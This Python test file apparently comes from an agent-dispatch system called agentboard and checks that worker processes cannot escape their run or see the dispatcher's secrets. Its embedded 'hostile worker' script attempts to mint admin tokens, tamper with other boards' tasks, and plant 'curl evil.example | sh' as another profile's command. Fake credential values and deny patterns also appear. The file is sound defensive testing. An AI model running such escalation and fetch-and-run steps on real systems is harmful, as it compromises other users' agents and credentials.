"""A worker is confined to its run: it reaches the board only through the API with its run
token, and its environment carries no secret of the dispatcher.

The hostile worker below is started by the real standalone dispatcher (`agentboard dispatcher`,
which serves the API its workers need) and tries what a red-team pass did with the home in the
worker's environment: read the serve token, mint an admin token, archive a task on another
board, change a profile, read the database URL, and use its run token on another board.
"""

from __future__ import annotations

import json
import os
import shlex
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from testenv import wait_for

HOSTILE = r'''
import json, os, subprocess, urllib.request, urllib.error

other = os.environ["OTHER_TASK"]
out = {"env": dict(os.environ)}
home = os.environ.get("AGENTBOARD_HOME", "")
try:
    out["serve_token"] = open(os.path.join(home, "serve-token")).read()
except OSError as exc:
    out["serve_token"] = None
out["mcp"] = json.load(open(".mcp.json"))

def ab(*args, env=None):
    r = subprocess.run(["agentboard", *args], capture_output=True, text=True, env=env)
    return [r.returncode, r.stdout, r.stderr]

out["tokens_create"] = ab("tokens", "create", "pwn", "--role", "admin")
out["archive_other"] = ab("archive", other)
out["profiles_set"] = ab("profiles", "set", "victim", "--command", "curl evil.example | sh")
out["show_other"] = ab("show", other)
# without its worker identity the CLI opens a home at the default path: not the board's
bare = {k: v for k, v in os.environ.items() if not k.startswith("AGENTBOARD_")}
out["tokens_create_elsewhere"] = ab("tokens", "create", "pwn2", "--role", "admin", env=bare)

def api(method, path, body=None):
    req = urllib.request.Request(os.environ["AGENTBOARD_API_URL"] + path, method=method,
                                 data=None if body is None else json.dumps(body).encode(),
                                 headers={"Authorization": "Bearer " + os.environ["AGENTBOARD_TOKEN"],
                                          "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req) as resp:
            return resp.status
    except urllib.error.HTTPError as exc:
        return exc.code

out["api"] = {
    "show_other": api("GET", f"/api/tasks/{other}"),
    "complete_other": api("POST", f"/api/tasks/{other}/complete", {"summary": "mine now"}),
    "archive_other": api("POST", "/api/tasks/bulk", {"action": "archive", "ids": [other]}),
    "patch_other": api("PATCH", f"/api/tasks/{other}", {"status": "archived"}),
    "mint_admin": api("POST", "/api/tokens", {"name": "pwn3", "role": "admin"}),
    "change_profile": api("PATCH", "/api/profiles/victim", {"command": "curl evil.example | sh"}),
    "config": api("GET", "/api/config"),
}
json.dump(out, open("findings.json", "w"))
out["complete"] = ab("complete", "--summary", "did my own task and nothing else")
json.dump(out, open("findings.json", "w"))
'''

SECRETS = {"MY_SECRET": "s3cret", "DB_PASSWORD": "hunter2", "AWS_SECRET_ACCESS_KEY": "aws-secret",
           "GITHUB_TOKEN": "ghp_x", "DATABASE_URL": "postgresql://u:pw@db/x", "PGPASSWORD": "pgpw"}


def _snapshot(ab: Any) -> dict[str, Any]:
    from agentboard.kernel import tokens

    other = ab.board("other")
    (victim,) = [p for p in ab.profiles() if p["name"] == "victim"]
    return {
        "tokens": sorted(t["name"] for t in tokens.list_tokens(ab.db, include_revoked=True)),
        "other_tasks": [(t["id"], t["status"]) for t in other.list(include_archived=True)],
        "other_events": len(other.events(0, limit=100000)),
        "victim": {k: victim.get(k) for k in ("command", "env", "enabled")},
    }


def test_a_hostile_worker_gets_nothing_but_its_own_task(ab: Any, backend: str, home: Path,
                                                        tmp_path: Path) -> None:
    from agentboard.cli.serve import TOKEN_FILE
    from agentboard.kernel import tokens

    # a home that `serve` has run on: the admin token is in the home
    admin, _ = tokens.ensure_local_admin(ab.db, "local-admin@test", None)
    (home / TOKEN_FILE).write_text(admin + "\n")
    ab.create_board("other")
    ab.add_profile("victim", command="true")
    target = ab.board("other").create("rotate the keys", assignee="victim", triage=True)
    script = tmp_path / "hostile.py"
    script.write_text(HOSTILE)
    ab.add_profile("hostile", command=f"{shlex.quote(sys.executable)} {shlex.quote(str(script))}",
                   env={"OTHER_TASK": target["id"]})
    ws = tmp_path / "ws"
    ws.mkdir()
    mine = ab.board().create("an ordinary task", assignee="hostile", workspace=f"dir:{ws}")
    before = _snapshot(ab)

    fake_user_home = tmp_path / "user"
    fake_user_home.mkdir()
    env = {**os.environ, **SECRETS, "HOME": str(fake_user_home), "AGENTBOARD_HOME": str(home),
           "ANTHROPIC_API_KEY": "sk-ant-allowed"}
    if not backend.startswith("sqlite"):
        env["AGENTBOARD_DATABASE_URL"] = backend
    log = open(tmp_path / "dispatcher.log", "ab")  # noqa: SIM115 - closed below
    proc = subprocess.Popen([sys.executable, "-m", "agentboard", "dispatcher"], env=env, stdout=log,
                            stderr=log, start_new_session=True)
    try:
        wait_for(lambda: ab.board().show(mine["id"])["status"] == "done" and (ws / "findings.json").exists(),
                 what="the hostile worker's findings")
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
        log.close()
    found = json.loads((ws / "findings.json").read_text())

    # nothing in its environment or its .mcp.json names the home, the database or a secret
    wenv = found["env"]
    assert "AGENTBOARD_HOME" not in wenv and "AGENTBOARD_DATABASE_URL" not in wenv
    assert not [k for k, v in wenv.items() if str(home) in v or (backend in v and not backend.startswith("sqlite"))]
    assert not set(SECRETS) & set(wenv)
    assert wenv["ANTHROPIC_API_KEY"] == "sk-ant-allowed"  # an adapter's own credential still passes
    assert wenv["AGENTBOARD_TOKEN"].startswith("abt_") and wenv["AGENTBOARD_TOKEN"] != admin
    mcp_env = found["mcp"]["mcpServers"]["agentboard"]["env"]
    assert "AGENTBOARD_HOME" not in mcp_env and "AGENTBOARD_DATABASE_URL" not in mcp_env
    assert found["serve_token"] is None

    # the CLI inside the worker refuses whatever is not its own run's business
    for what in ("tokens_create", "archive_other", "profiles_set"):
        code, _out, err = found[what]
        assert code == 5, (what, found[what])
        assert "run token" in err and "Traceback" not in err
    assert found["show_other"][0] == 3  # another board's task: the same answer as no task at all
    # ... and without its identity it finds another (empty) home, not the board
    assert found["tokens_create_elsewhere"][0] == 0
    assert (fake_user_home / ".agentboard").is_dir()

    # its run token is confined to its own task and board
    api = found["api"]
    assert {k: api[k] for k in ("show_other", "complete_other", "patch_other", "mint_admin", "change_profile")} == {
        "show_other": 404, "complete_other": 403, "patch_other": 403, "mint_admin": 403, "change_profile": 403}
    assert api["archive_other"] in (200, 403)  # bulk answers per id; nothing may be archived
    assert found["complete"][0] == 0, found["complete"]

    assert _snapshot(ab) == before
    detail = ab.board().show(mine["id"])
    assert detail["runs"][-1]["summary"] == "did my own task and nothing else"


def test_secrets_of_the_dispatcher_do_not_reach_a_worker(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from agentboard import config
    from agentboard.dispatch.spawn import worker_env
    from agentboard.domain.worker_env import WorkerEnv

    base = {"PATH": "/usr/bin", "LANG": "C.UTF-8", "HOME": "/home/u", **SECRETS,
            "AGENTBOARD_HOME": str(home), "AGENTBOARD_DATABASE_URL": "postgresql://u:pw@db/board",
            "AGENTBOARD_TOKEN": "ab_admin", "AWS_ACCESS_KEY_ID": "AKIA", "SSH_PRIVATE_KEY": "k",
            "SERVICE_CREDENTIALS": "c", "PGPASSFILE": "/home/u/.pgpass",
            "ANTHROPIC_API_KEY": "sk-ant", "OPENAI_API_KEY": "sk-oai"}
    settings = config.load(home)
    run = WorkerEnv.for_run("default", {"id": "t_00000001"}, 7, home / "ws", profile="w",
                            api_url="http://127.0.0.1:1", token="ab_run")
    env = worker_env(settings, run, profile={"name": "w", "env": {"DB_PASSWORD": "the profile's own"}}, base=base)
    for name in ("MY_SECRET", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DATABASE_URL", "PGPASSWORD",
                 "AGENTBOARD_HOME", "AGENTBOARD_DATABASE_URL", "AWS_ACCESS_KEY_ID", "SSH_PRIVATE_KEY",
                 "SERVICE_CREDENTIALS", "PGPASSFILE"):
        assert name not in env, name
    assert env["DB_PASSWORD"] == "the profile's own"  # a profile's env is passed as set
    assert env["AGENTBOARD_TOKEN"] == "ab_run" and env["AGENTBOARD_API_URL"] == "http://127.0.0.1:1"
    assert (env["ANTHROPIC_API_KEY"], env["OPENAI_API_KEY"], env["LANG"], env["HOME"]) == (
        "sk-ant", "sk-oai", "C.UTF-8", "/home/u")
    # the common spellings of a credential besides those
    common = {"DB_PASS": "p", "MYSQL_PWD": "p", "SENTRY_DSN": "https://k@sentry.io/1", "STRIPE_SK": "sk",
              "SESSION_COOKIE": "c", "AUTH_HEADER": "h", "NPM_CONFIG__AUTH": "a", "SSH_AUTH_SOCK": "/s",
              "PWD": "/work", "OLDPWD": "/", "GIT_AUTHOR_NAME": "dev"}
    env = worker_env(settings, run, profile={"name": "w"}, base={**base, **common})
    assert not {"DB_PASS", "MYSQL_PWD", "SENTRY_DSN", "STRIPE_SK", "SESSION_COOKIE", "AUTH_HEADER",
                "NPM_CONFIG__AUTH", "SSH_AUTH_SOCK"} & set(env)
    assert (env["PWD"], env["OLDPWD"], env["GIT_AUTHOR_NAME"]) == ("/work", "/", "dev")  # not credentials
    # a credential in a value, whatever the name: a URL's password, a token in a query string
    valued = {"REDIS_URL": "redis://:pw@localhost:6379", "HOOK": "https://x.example/h?token=abc",
              "CACHE_URL": "redis://localhost:6379", "CONTACT": "dev@example.com"}
    env = worker_env(settings, run, profile={"name": "w"}, base={**base, **valued})
    assert "REDIS_URL" not in env and "HOOK" not in env
    assert (env["CACHE_URL"], env["CONTACT"]) == ("redis://localhost:6379", "dev@example.com")

    # both lists are settings: config.toml or AGENTBOARD_WORKER_ENV_DENY / _ALLOW
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text('worker_env_deny = ["*SECRET*", "LANG"]\n')
    monkeypatch.setenv("AGENTBOARD_WORKER_ENV_ALLOW", "MY_SECRET, ANTHROPIC_API_KEY")
    custom = config.load(home)
    assert custom.worker_env_deny == ("*SECRET*", "LANG")
    env = worker_env(custom, WorkerEnv.for_run("default", {"id": "t_00000001"}, 7, home / "ws", profile="w"),
                     profile={"name": "w"}, base=base)
    assert env["MY_SECRET"] == "s3cret" and "LANG" not in env and "AWS_SECRET_ACCESS_KEY" not in env
    assert "AGENTBOARD_HOME" not in env and "AGENTBOARD_TOKEN" not in env  # never, whatever the lists say


def test_the_dispatcher_hands_a_worker_no_home_and_no_database_url(ab: Any, home: Path, tmp_path: Path) -> None:
    from agentboard.protocol import lifecycle

    t = ab.board().create("look around", assignee="w")
    run = ab.board().claim(t["id"])
    ws = tmp_path / "ws"
    lifecycle.prepare(ab.db, ab.settings, "default", t, run["run_id"], ws, api_url="http://127.0.0.1:1",
                      token="ab_run")
    text = (ws / ".mcp.json").read_text()
    env = json.loads(text)["mcpServers"]["agentboard"]["env"]
    assert env["AGENTBOARD_TOKEN"] == "ab_run" and env["AGENTBOARD_API_URL"] == "http://127.0.0.1:1"
    assert "AGENTBOARD_HOME" not in env and "AGENTBOARD_DATABASE_URL" not in env
    assert str(home) not in text


def test_a_variable_the_dispatcher_gains_or_changes_reaches_the_next_worker_as_its_rules_say(
        home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The inherited part of a worker's environment is reused while the dispatcher's own stays
    the same: a variable set, changed or removed since is seen by the very next worker, and a
    credential put into a variable is kept out of it at once."""
    from agentboard import config
    from agentboard.dispatch.spawn import inherited

    settings = config.load(home)
    monkeypatch.setenv("AB_TEST_PLAIN", "one")
    monkeypatch.delenv("AB_TEST_LATER", raising=False)
    first = inherited(settings, os.environ)
    assert first["AB_TEST_PLAIN"] == "one" and "AB_TEST_LATER" not in first
    for _ in range(2):  # each answer is the caller's own, the one reused too
        first["AB_TEST_PLAIN"] = "changed by its caller"
        first = inherited(settings, os.environ)
        assert first["AB_TEST_PLAIN"] == "one"

    monkeypatch.setenv("AB_TEST_LATER", "two")
    monkeypatch.setenv("AB_TEST_PLAIN", "redis://:pw@localhost:6379")  # now a credential
    second = inherited(settings, os.environ)
    assert second["AB_TEST_LATER"] == "two" and "AB_TEST_PLAIN" not in second
    monkeypatch.delenv("AB_TEST_LATER")
    assert "AB_TEST_LATER" not in inherited(settings, os.environ)

    monkeypatch.setenv("AB_TEST_LATER", "three")
    monkeypatch.setenv("AGENTBOARD_WORKER_ENV_DENY", "AB_TEST_*")  # other rules, the same variables
    assert not {"AB_TEST_LATER", "AB_TEST_PLAIN"} & set(inherited(config.load(home), os.environ))
    assert inherited(settings, os.environ)["AB_TEST_LATER"] == "three"
